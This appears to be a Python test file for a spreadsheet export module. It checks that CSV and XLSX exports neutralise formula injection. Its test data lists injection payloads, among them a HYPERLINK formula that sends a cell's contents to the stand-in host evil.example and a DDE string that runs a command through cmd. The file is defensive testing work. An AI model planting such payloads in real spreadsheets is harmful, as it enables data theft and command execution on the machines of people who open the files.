"""Tables for Excel and WPS: the data center's text is never a formula there."""

from __future__ import annotations

import csv

from commandcenter.exports.spreadsheets import Table, write_csv, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["姑苏区司法所", "0512-65223311", "2026-11-24"]


def table() -> Table:
    return Table("名单", ["名称", "数量"], [[text, n] for n, text in enumerate(HOSTILE + PLAIN)])


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_prefixed(tmp_path):
    path = write_csv(tmp_path / "名单.csv", table())
    with path.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE] + PLAIN
    assert [row[1] for row in rows[1:]] == [str(n) for n in range(len(HOSTILE + PLAIN))]


def test_xlsx_cells_keep_the_text_exactly_and_as_text(tmp_path):
    from openpyxl import load_workbook

    path = write_xlsx(tmp_path / "名单.xlsx", [table()])
    sheet = load_workbook(path).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    # (XML, under XLSX, reads a carriage return back as a line feed)
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE] + PLAIN
    assert all(c.data_type == "s" for c in cells)
    assert all(c.quotePrefix for c in cells[: len(HOSTILE)])
    # numbers stay numbers
    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == list(range(len(HOSTILE + PLAIN)))
